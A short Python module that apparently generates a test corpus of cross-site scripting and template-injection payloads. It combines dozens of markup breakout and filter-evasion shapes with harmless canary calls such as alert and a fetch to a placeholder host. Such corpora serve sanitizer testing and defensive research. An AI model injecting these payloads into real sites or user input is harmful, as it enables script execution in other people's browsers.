"""What somebody writes into a name to have it run in another's browser: shapes of markup around calls."""

CANARY = "kanari"
SHAPES = [
    "<script>{x}</script>", "<img src=x onerror={x}>", "<svg onload={x}>", "<body onload={x}>", "<iframe src=javascript:{x}>",
    '"><script>{x}</script>', "'><script>{x}</script>", '" onmouseover="{x}', "' onfocus='{x}' autofocus='", "</title><script>{x}</script>",
    "</textarea><script>{x}</script>", "</script><script>{x}</script>", "--><script>{x}</script>", "]]><script>{x}</script>",
    "<a href=\"javascript:{x}\">a</a>", "<math><mtext></table><mglyph><style><img src=x onerror={x}>", "<details open ontoggle={x}>",
    "<video><source onerror={x}>", "<object data=javascript:{x}>", "<embed src=javascript:{x}>", "<form action=javascript:{x}><button>",
    "<style>@import '{x}'</style>", "<link rel=stylesheet href={x}>", "<meta http-equiv=refresh content='0;url=javascript:{x}'>",
    "<base href=//{x}/>", "<input onfocus={x} autofocus>", "<marquee onstart={x}>", "<template><script>{x}</script></template>",
    "{{{{7*7}}}}{x}", "{{% debug %}}{x}", "${{7*7}}{x}", "<%= 7*7 %>{x}", "[a](javascript:{x})", "![a](x\" onerror=\"{x})",
    "\u2028<script>{x}</script>", "<scr\0ipt>{x}</script>", "<ScRiPt>{x}</sCrIpT>", "<script/x>{x}</script>", "%3Cscript%3E{x}%3C/script%3E",
    "&lt;script&gt;{x}&lt;/script&gt;", "＜script＞{x}＜/script＞", "<x onclick={x}>", "<p style=background:url({x})>", "<button formaction=javascript:{x}>",
]  # fmt: skip
CALLS = ["{k}(1)", "alert`{k}`", "fetch('//{k}.example')", "eval(atob('{k}'))", "top['{k}'](1)"]
PAYLOADS = [shape.format(x=call.format(k=CANARY)) for shape in SHAPES for call in CALLS]
